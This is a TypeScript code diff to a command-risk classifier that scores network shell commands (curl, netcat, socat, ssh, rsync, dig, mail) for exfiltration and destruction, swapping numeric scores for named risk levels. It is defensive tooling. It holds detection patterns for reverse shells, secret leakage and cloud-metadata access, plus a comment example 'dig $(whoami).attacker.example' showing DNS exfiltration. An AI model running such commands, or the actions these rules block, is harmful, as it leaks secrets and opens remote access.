@@ -1,3 +1,4 @@
+import { RISK } from '../risk-scale.js';
 import { isCredentialPath, secretLiteralKind, urlCarriesSecret } from '../secret-source.js';
 import type { CommandRule, CommandScope } from '../shell-command.js';
 import { classifyVerb } from './cli-verb.js';
@@ -27,14 +28,14 @@ function judgeUrl(scope: CommandScope, url: string, sending: boolean): void {
   if (/\$\(|`/.test(url)) scope.networkSink(`url-from-data:${host ?? ''}`);
   if (urlCarriesSecret(url)) {
     scope.networkSink(`url:${host ?? url}`);
-    scope.add({ code: `net.secret-in-url:${host ?? ''}`, exfil: 0.85, onTask: 0.2 });
+    scope.add({ code: `net.secret-in-url:${host ?? ''}`, exfil: RISK.denyHigh, onTask: 0.2 });
   }
   if (host === undefined) return;
   if (METADATA_HOSTS.test(host)) {
     scope.secretSource(`cloud-metadata:${host}`);
-    scope.add({ code: `net.cloud-metadata:${host}`, exfil: 0.8, onTask: 0.05 });
+    scope.add({ code: `net.cloud-metadata:${host}`, exfil: RISK.deny, onTask: 0.05 });
   } else if (isRawPublicIp(host)) {
-    scope.add({ code: `net.raw-ip:${host}`, exfil: sending ? 0.6 : 0.25, onTask: 0.4 });
+    scope.add({ code: `net.raw-ip:${host}`, exfil: sending ? RISK.askHigh : RISK.askLow, onTask: 0.4 });
   }
 }
 
@@ -124,7 +125,7 @@ const curl: CommandRule = (scope) => {
       else if (name === '-o' || name === '--output') judgeDownloadTarget(scope, value);
       else if (name === '-u' || name === '--user' || name === '-H' || name === '--header') {
         if (secretLiteralKind(value) !== undefined)
-          scope.add({ code: 'net.literal-credential-in-arguments', exfil: 0.3 });
+          scope.add({ code: 'net.literal-credential-in-arguments', exfil: RISK.askLow });
       }
       continue;
     }
@@ -146,11 +147,11 @@ function judgeSentData(scope: CommandScope, value: string, flag: string): void {
     const path = scope.path(file);
     if (isCredentialPath(path.normalised) || isCredentialPath(file)) {
       scope.secretSource(path.normalised);
-      scope.add({ code: `secret.read:${path.normalised}`, exfil: 0.5, onTask: 0.1 });
+      scope.add({ code: `secret.read:${path.normalised}`, exfil: RISK.ask, onTask: 0.1 });
     } else {
       scope.add({
         code: `net.upload-file:${path.normalised}`,
-        exfil: path.scope === 'workspace' ? 0.35 : 0.5,
+        exfil: path.scope === 'workspace' ? RISK.askLow : RISK.ask,
         onTask: 0.4,
       });
     }
@@ -159,7 +160,7 @@ function judgeSentData(scope: CommandScope, value: string, flag: string): void {
   const kind = secretLiteralKind(value);
   if (kind !== undefined) {
     scope.secretSource(`literal:${kind}`);
-    scope.add({ code: `net.sends-secret-literal:${kind}`, exfil: 0.9, onTask: 0.05 });
+    scope.add({ code: `net.sends-secret-literal:${kind}`, exfil: RISK.denyHigh, onTask: 0.05 });
   }
 }
 
@@ -169,7 +170,7 @@ function judgeDownloadTarget(scope: CommandScope, target: string): void {
   if (path.scope === 'system' || path.scope === 'home' || path.scope === 'unknown')
     scope.add({
       code: `net.download-outside-workspace:${path.normalised}`,
-      destructive: path.scope === 'system' ? 0.75 : 0.45,
+      destructive: path.scope === 'system' ? RISK.deny : RISK.ask,
       onTask: 0.4,
     });
 }
@@ -184,14 +185,26 @@ function judgeHttpMethod(scope: CommandScope, method: string, urls: string[]): v
       .map(classifyVerb),
   );
   if (method === 'DELETE') {
-    scope.add({ code: `net.http-delete:${hostOf(urls[0] ?? '') ?? ''}`, destructive: 0.8, onTask: 0.2 });
+    scope.add({
+      code: `net.http-delete:${hostOf(urls[0] ?? '') ?? ''}`,
+      destructive: RISK.deny,
+      onTask: 0.2,
+    });
   } else if (method !== 'GET' && method !== 'HEAD' && method !== 'OPTIONS') {
     if (pathVerb.includes('destructive'))
-      scope.add({ code: `net.http-${method.toLowerCase()}-delete-endpoint`, destructive: 0.75, onTask: 0.2 });
+      scope.add({
+        code: `net.http-${method.toLowerCase()}-delete-endpoint`,
+        destructive: RISK.deny,
+        onTask: 0.2,
+      });
     else {
       // A write to the developer's own service on this machine is how its API is tried out.
       const local = urls.length > 0 && urls.every((url) => LOCAL_HOST.test(hostOf(url) ?? ''));
-      scope.add({ code: `net.http-${method.toLowerCase()}`, destructive: 0.15, onTask: local ? 0.85 : 0.6 });
+      scope.add({
+        code: `net.http-${method.toLowerCase()}`,
+        destructive: RISK.low,
+        onTask: local ? 0.85 : 0.6,
+      });
     }
   } else scope.add({ code: `net.http-get`, onTask: 0.85 });
 }
@@ -260,7 +273,12 @@ const netcat: CommandRule = (scope) => {
     )
   ) {
     scope.networkSink(program);
-    scope.add({ code: `net.reverse-shell:${program}-exec`, exfil: 0.97, destructive: 0.5, onTask: 0.02 });
+    scope.add({
+      code: `net.reverse-shell:${program}-exec`,
+      exfil: RISK.certain,
+      destructive: RISK.ask,
+      onTask: 0.02,
+    });
     return;
   }
   if (args.some((arg) => /^-[a-zA-Z]*z/.test(arg))) {
@@ -269,15 +287,20 @@ const netcat: CommandRule = (scope) => {
   }
   const listens = args.some((arg) => /^-[a-zA-Z]*l/.test(arg) || arg === '--listen');
   scope.networkSink(program);
-  scope.add({ code: `net.raw-socket:${program}${listens ? '-listen' : ''}`, exfil: 0.5, onTask: 0.2 });
+  scope.add({ code: `net.raw-socket:${program}${listens ? '-listen' : ''}`, exfil: RISK.ask, onTask: 0.2 });
 };
 
 const socat: CommandRule = (scope) => {
   const args = scope.command.args;
   scope.networkSink('socat');
   if (args.some((arg) => /^(exec|system):/i.test(arg) || (/,(pty|stderr)/i.test(arg) && /exec:/i.test(arg))))
-    scope.add({ code: 'net.reverse-shell:socat-exec', exfil: 0.97, destructive: 0.5, onTask: 0.02 });
-  else scope.add({ code: 'net.raw-socket:socat', exfil: 0.5, onTask: 0.2 });
+    scope.add({
+      code: 'net.reverse-shell:socat-exec',
+      exfil: RISK.certain,
+      destructive: RISK.ask,
+      onTask: 0.02,
+    });
+  else scope.add({ code: 'net.raw-socket:socat', exfil: RISK.ask, onTask: 0.2 });
 };
 
 /** `scp`, `sftp`, `rsync`: an upload when a local path goes to `host:path`. */
@@ -305,7 +328,7 @@ function judgeTransfer(scope: CommandScope, program: string, operands: string[])
     }
   }
   if (!secret)
-    scope.add({ code: `net.${program}.upload:${destination.split(':')[0]}`, exfil: 0.4, onTask: 0.4 });
+    scope.add({ code: `net.${program}.upload:${destination.split(':')[0]}`, exfil: RISK.ask, onTask: 0.4 });
 }
 
 const RSYNC_DELETES =
@@ -322,7 +345,7 @@ const rsync: CommandRule = (scope) => {
   if (deleting !== undefined && !dryRun) {
     const destination = operands[operands.length - 1] ?? '';
     const path = isRemote(destination) ? undefined : scope.path(destination);
-    const severity = path === undefined || path.scope !== 'temp' ? 0.8 : 0.1;
+    const severity = path === undefined || path.scope !== 'temp' ? RISK.deny : RISK.routine;
     scope.add({ code: `shell.rsync${deleting}:${path?.normalised ?? destination}`, destructive: severity });
   }
   if (!dryRun) judgeTransfer(scope, 'rsync', operands);
@@ -350,7 +373,7 @@ const ssh: CommandRule = (scope) => {
   }
   const host = args[index];
   const remote = args.slice(index + 1);
-  if (tunnel) scope.add({ code: 'net.ssh-tunnel', exfil: 0.4, onTask: 0.3 });
+  if (tunnel) scope.add({ code: 'net.ssh-tunnel', exfil: RISK.ask, onTask: 0.3 });
   if (host === undefined) return;
   if (scope.command.input.kind !== 'none') scope.networkSink(`ssh:${host}`);
   if (remote.length > 0) scope.runShell(remote.join(' '), 'ssh-remote');
@@ -362,18 +385,18 @@ const dnsLookup: CommandRule = (scope) => {
   // `dig $(whoami).attacker.example`: the query name carries data out.
   if (dynamicArgs.some((dynamic, index) => dynamic && !args[index]!.startsWith('-'))) {
     scope.networkSink(`dns:${program}`);
-    scope.add({ code: `net.dns-from-data:${program}`, exfil: 0.85, onTask: 0.05 });
+    scope.add({ code: `net.dns-from-data:${program}`, exfil: RISK.denyHigh, onTask: 0.05 });
   }
 };
 
 const mail: CommandRule = (scope) => {
   scope.networkSink(scope.command.program);
-  scope.add({ code: `net.mail:${scope.command.program}`, exfil: 0.5, onTask: 0.2 });
+  scope.add({ code: `net.mail:${scope.command.program}`, exfil: RISK.ask, onTask: 0.2 });
 };
 
 const fileTransfer: CommandRule = (scope) => {
   scope.networkSink(scope.command.program);
-  scope.add({ code: `net.transfer:${scope.command.program}`, exfil: 0.45, onTask: 0.3 });
+  scope.add({ code: `net.transfer:${scope.command.program}`, exfil: RISK.ask, onTask: 0.3 });
 };
 
 export const NETWORK_RULES: ReadonlyMap<string, CommandRule> = new Map<string, CommandRule>([
